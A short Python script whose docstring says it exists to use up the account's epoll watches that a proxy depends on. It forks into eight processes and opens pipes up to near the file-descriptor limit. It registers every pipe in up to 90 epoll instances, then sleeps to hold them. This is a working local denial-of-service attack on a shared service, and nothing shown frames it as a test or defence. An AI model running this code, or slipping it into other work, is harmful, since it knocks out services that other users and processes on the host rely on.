"""Use up the epoll watches of the account, which the proxy needs."""

import os
import resource
import select
import time

most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
for _ in range(3):
    os.fork()
ends = [end for _ in range(most // 2 - 100) for end in os.pipe()]
instances = []
try:
    while len(instances) < 90:
        instances.append(select.epoll())
        for end in ends:
            instances[-1].register(end, select.EPOLLIN)
except OSError as trouble:
    print("got", trouble)
time.sleep(60)
